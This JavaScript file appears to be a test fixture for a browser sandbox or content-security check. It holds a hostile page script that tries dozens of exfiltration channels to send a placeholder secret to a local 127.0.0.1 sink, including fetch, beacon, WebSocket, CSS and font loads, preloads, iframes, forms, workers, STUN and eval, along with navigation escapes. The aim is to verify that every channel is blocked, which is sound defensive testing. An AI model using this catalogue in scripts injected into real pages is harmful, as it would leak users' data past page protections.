// A hostile page script for the test that nothing can be sent. It is packed into a copy of the page, in front of
// the page's own code, so that it runs with all of a page script's rights. The address tells it where to send:
// `#/probe/<port>/<udp port>` tries every channel at once, `#/leave/<port>/<name>` tries one way of leaving.
(() => {
  const [, order, port, last] = location.hash.split("/");
  if (order !== "probe" && order !== "leave") return;
  const sink = `http://127.0.0.1:${port}`;
  const secret = "?secret=5X6B6plUwUSXZnjQ4kGM33mpMXY";
  const add = (name, attributes, place = document.body) => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    place.append(element);
    return element;
  };
  const link = (rel, more = {}) => (url) => add("link", { rel, href: url, ...more }, document.head);
  const style = (text) => (url) => {
    const element = add("style", {}, document.head);
    element.textContent = text(url);
    add("p", { class: "probe" }).textContent = "probe";
  };

  const channels = {
    fetch: (url) => fetch(url),
    "fetch-post": (url) => fetch(url, { method: "POST", mode: "no-cors", body: secret }),
    "fetch-keepalive": (url) => fetch(url, { mode: "no-cors", keepalive: true }),
    "fetch-later": (url) => self.fetchLater(url, { activateAfter: 0 }),
    "xml-http-request": (url) => {
      const request = new XMLHttpRequest();
      request.open("GET", url);
      request.send();
    },
    beacon: (url) => navigator.sendBeacon(url, secret),
    "web-socket": (url) => new WebSocket(url.replace("http", "ws")),
    "event-source": (url) => new EventSource(url),
    image: (url) => (new Image().src = url),
    "image-srcset": (url) => add("img", { srcset: `${url} 1x` }),
    "picture-source": (url) => add("source", { srcset: url }, add("picture", {})).after(document.createElement("img")),
    "input-image": (url) => add("input", { type: "image", src: url }),
    "svg-image": (url) => {
      const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
      const image = document.createElementNS("http://www.w3.org/2000/svg", "image");
      image.setAttribute("href", url);
      svg.append(image);
      document.body.append(svg);
    },
    "body-background": (url) => document.body.setAttribute("background", url),
    "background-image": (url) => (add("div", {}).style.backgroundImage = `url(${url})`),
    "list-image": (url) => (add("li", {}).style.listStyleImage = `url(${url})`),
    "border-image": (url) => Object.assign(add("div", {}).style, { border: "9px solid", borderImage: `url(${url}) 9` }),
    "style-import": style((url) => `@import url(${url});`),
    "style-background": style((url) => `.probe { background: url(${url}) }`),
    "style-font": style((url) => `@font-face { font-family: probe; src: url(${url}) } .probe { font-family: probe }`),
    "font-face": (url) => new FontFace("other", `url(${url})`).load(),
    "link-stylesheet": link("stylesheet"),
    "link-prefetch": link("prefetch"),
    "link-preload": link("preload", { as: "fetch", crossorigin: "" }),
    "link-preload-image": link("preload", { as: "image" }),
    "link-module-preload": link("modulepreload"),
    "link-icon": link("icon"),
    "link-manifest": link("manifest"),
    "link-prerender": link("prerender"),
    script: (url) => (add("script", {}, document.head).src = url),
    "module-script": (url) => {
      const script = document.createElement("script");
      script.type = "module";
      script.src = url;
      document.head.append(script);
    },
    import: (url) => import(url),
    frame: (url) => add("iframe", { src: url }),
    "frame-document": (url) => add("iframe", { srcdoc: `<img src="${url}">` }),
    object: (url) => add("object", { data: url }),
    embed: (url) => add("embed", { src: url }),
    video: (url) => add("video", { src: url, preload: "auto" }),
    "video-poster": (url) => add("video", { poster: url }),
    audio: (url) => add("audio", { src: url, preload: "auto" }),
    "inner-html": (url) => (add("div", {}).innerHTML = `<img src="${url}">`),
    "form-into-frame": (url) => {
      add("iframe", { name: "target" });
      add("form", { action: url, method: "post", target: "target" }).submit();
    },
    ping: (url) => add("a", { href: location.hash, ping: url }).click(),
    "speculation-rules": (url) => {
      const rules = { prefetch: [{ source: "list", urls: [url], eagerness: "immediate" }] };
      add("script", { type: "speculationrules" }, document.head).textContent = JSON.stringify(rules);
    },
    "worker-from-text": (url) => {
      const text = `fetch(${JSON.stringify(url)}, { mode: "no-cors" })`;
      new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
    },
    "worker-from-address": (url) => new Worker(url),
    "web-transport": (url) => new WebTransport(url.replace("http:", "https:")),
    stun: () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${last}` }] });
      peer.createDataChannel("probe");
      return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    },
    eval: (url) => (0, eval)(`new Image().src = ${JSON.stringify(url)}`),
    "new-function": (url) => new Function(`new Image().src = ${JSON.stringify(url)}`)(),
  };

  const leaving = {
    location: (url) => (location.href = url),
    replace: (url) => location.replace(url),
    window: (url) => window.open(url),
    "window-without-opener": (url) => window.open(url, "_blank", "noopener"),
    link: (url) => add("a", { href: url }).click(),
    "link-to-window": (url) => add("a", { href: url, target: "_blank" }).click(),
    "link-download": (url) => add("a", { href: url, download: "report" }).click(),
    refresh: (url) => add("meta", { "http-equiv": "refresh", content: `0;url=${url}` }, document.head),
    "form-get": (url) => add("form", { action: url, method: "get" }).submit(),
    "form-post": (url) => add("form", { action: url, method: "post" }).submit(),
  };

  const attempt = (name, work) => {
    try {
      Promise.resolve(work(`${sink}/${name}${secret}`)).catch(() => {});
    } catch {
      // A refusal is what the page promises; the sink tells whether it held.
    }
  };
  addEventListener("load", () => {
    if (order === "leave") attempt(last, leaving[last]);
    else for (const [name, work] of Object.entries(channels)) attempt(name, work);
    document.documentElement.dataset.probe = Object.keys(order === "leave" ? leaving : channels).join(" ");
  });
})();
